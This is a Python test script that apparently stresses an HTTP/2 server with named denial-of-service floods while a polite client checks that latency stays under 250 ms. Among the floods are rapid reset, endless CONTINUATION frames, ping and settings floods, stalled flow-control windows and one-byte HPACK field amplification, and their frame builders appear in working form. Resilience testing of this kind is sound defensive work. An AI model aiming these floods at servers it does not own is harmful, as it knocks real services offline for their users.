#!/usr/bin/env python3
"""Clients that wear an HTTP/2 server down, and a polite one beside them who must not notice.

  h2_hostile.py HOST:PORT ATTACK [--seconds 10] [--processes 2] [--path /] [--large /large] [--authority NAME]

Each process opens a connection, attacks until the server ends it, and opens the next. The polite client asks 50 times a
second on a connection of its own. It holds when the polite one met no error and 99 of 100 answers took less than 250 ms.
The other line says what became of the attackers: how many connections, how many of them the server ended and with what.

  quiet            nobody attacks: what the polite client sees alone
  rapid-reset      requests that are reset in the same write
  provoked-reset   requests that make the server reset them
  continuation     a field block that never ends
  empty-data       a body of frames without bytes
  empty-headers    field blocks of frames without bytes
  ping settings priority unknown    frames that want an answer or a thought each
  stalled          many answers of --large, and windows that never open
  dribble          the same, opened a byte at a time
  fields           requests of thousands of one-byte fields
  cookies          requests of thousands of cookies
  open-streams     bodies that never come
"""

import argparse
import multiprocessing
import time
from collections import Counter

import verdict
from h2_link import (
    CONTINUATION,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    LARGEST_WINDOW,
    PRIORITY,
    Asks,
    Link,
    block,
    data,
    frame,
    name_of,
    ping,
    reset,
    settings,
    window_update,
)

RATE = 50
BOUND = 0.250
AT_ONCE = 100
MANY = 2000


def streams():
    """The numbers a client may use; when they run out the connection is spent."""
    return range(1, LARGEST_WINDOW, 2)


def groups(one):
    """Pieces of a write each, made for stream after stream."""
    numbers = iter(streams())
    while True:
        yield b"".join(one(next(numbers)) for _ in range(AT_ONCE))


def for_ever(piece):
    while True:
        yield piece


def after(first, rest):
    yield first
    yield from rest


def stalled(asks, step):
    """Asks for as much as it may and reads nothing, or nearly nothing."""
    yield b"".join(asks.get(number, path=asks.large) for number in range(1, 2 * AT_ONCE, 2))
    while True:
        time.sleep(0.02)
        yield b"".join(window_update(number, 1) for number in range(1, 2 * AT_ONCE, 2)) if step else b""


def held(asks):
    yield b"".join(asks.post(number) for number in range(1, 2 * AT_ONCE, 2))
    while True:
        time.sleep(0.02)
        yield b""


ATTACKS = {
    "rapid-reset": lambda a: groups(lambda n: a.get(n) + reset(n)),
    "provoked-reset": lambda a: groups(lambda n: a.post(n) + window_update(n, 0)),
    "continuation": lambda a: after(
        frame(HEADERS, END_STREAM, 1, block(a.fields())),
        for_ever(frame(CONTINUATION, 0, 1, block([("x", "y")])) * MANY),
    ),
    "empty-data": lambda a: after(a.post(1), for_ever(data(1) * MANY)),
    "empty-headers": lambda a: after(frame(HEADERS, END_STREAM, 1), for_ever(frame(CONTINUATION, 0, 1) * MANY)),
    "ping": lambda _: for_ever(ping() * MANY),
    "settings": lambda _: for_ever(settings((INITIAL_WINDOW_SIZE, 65_535)) * MANY),
    "priority": lambda _: for_ever(frame(PRIORITY, 0, 1, b"\0\0\0\0\x01") * MANY),
    "unknown": lambda _: for_ever(frame(0xF7, 0, 0) * MANY),
    "stalled": lambda a: stalled(a, False),
    "dribble": lambda a: stalled(a, True),
    # 0x90 is `accept-encoding: gzip, deflate` of the static table: one byte that becomes a field of 30.
    "fields": lambda a: groups(
        lambda n: frame(HEADERS, END_STREAM | END_HEADERS, n, block(a.fields()) + b"\x90" * 12_000)
    ),
    "cookies": lambda a: groups(lambda n: a.get(n, *[("cookie", "a")] * 1500)),
    "open-streams": held,
}
STILL = ("stalled", "dribble")


def attack(name, options, until, told):
    """One process: connection after connection, as fast as the server lets it."""
    asks = Asks(options.authority or options.address, options.path, options.large)
    ours = ((INITIAL_WINDOW_SIZE, 1 if name == "dribble" else 0),) if name in STILL else ()
    counts = Counter()
    while time.monotonic() < until:
        try:
            with Link(verdict.address(options.address), ours) as link:
                counts["connections"] += 1
                counts[f"ended: {of_one(link, ATTACKS[name](asks), until, counts)}"] += 1
        except OSError:
            counts["not let in"] += 1
            time.sleep(0.05)
    told.put(counts)


def of_one(link, pieces, until, counts):
    for piece in pieces:
        while piece and not ended(link):
            if time.monotonic() > until:
                return "by the end of time"
            # Reading sets a shorter one.
            link.socket.settimeout(1)
            try:
                taken = link.socket.send(piece)
                counts["bytes"] += taken
                piece = piece[taken:]
            except TimeoutError:
                counts["seconds in which nothing was taken"] += 1
            except OSError:
                link.read(lambda: False, 0.5)
        link.read(lambda: False, 0.001)
        if ended(link):
            return "without a word" if link.goaway is None else f"GOAWAY {name_of(link.goaway)}"
        if time.monotonic() > until:
            return "by the end of time"
    return "by itself"


def ended(link):
    return link.closed or link.goaway is not None


def polite(options, until):
    """The times of all answers, and what went wrong."""
    asks = Asks(options.authority or options.address, options.path)
    link, number, took, faults = Link(verdict.address(options.address)), 1, [], Counter()
    due = time.monotonic()
    while time.monotonic() < until:
        began = time.monotonic()
        link.send(asks.get(number), window_update(0, 65_535))
        if not link.answered(number) or link.status.get(number) != 200:
            faults[f"status {link.status.get(number)}, {link.saw()[-60:]}"] += 1
            link = Link(verdict.address(options.address))
            number = -1
        took.append(time.monotonic() - began)
        number += 2
        link.events.clear()
        due += 1 / RATE
        time.sleep(max(0, due - time.monotonic()))
    return sorted(took), faults


def main():
    options = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawTextHelpFormatter)
    options.add_argument("address")
    options.add_argument("attack", choices=["quiet", *ATTACKS])
    options.add_argument("--seconds", type=float, default=10)
    options.add_argument("--processes", type=int, default=2)
    options.add_argument("--path", default="/")
    options.add_argument("--large", default="/large")
    options.add_argument("--authority", help="the name to ask for")
    options = options.parse_args()

    verdicts = verdict.Verdicts("h2_hostile", options.seconds + 30)
    until = time.monotonic() + options.seconds
    told = multiprocessing.Queue()
    count = 0 if options.attack == "quiet" else options.processes
    hostile = [
        multiprocessing.Process(target=attack, args=(options.attack, options, until, told), daemon=True)
        for _ in range(count)
    ]
    for process in hostile:
        process.start()
    took, faults = polite(options, until)
    counts = sum((told.get(timeout=20) for _ in hostile), Counter())
    percent = {share: round(took[min(len(took) - 1, len(took) * share // 100)] * 1000, 1) for share in (50, 99, 100)}
    verdict.say({"attack": options.attack, **counts})
    verdicts.note("no error of the polite client", not faults, dict(faults))
    verdicts.note("99 of 100 answers within 250 ms", percent[99] < BOUND * 1000, f"{percent[99]} ms")
    verdicts.finish(requests=len(took), milliseconds=percent)


if __name__ == "__main__":
    main()
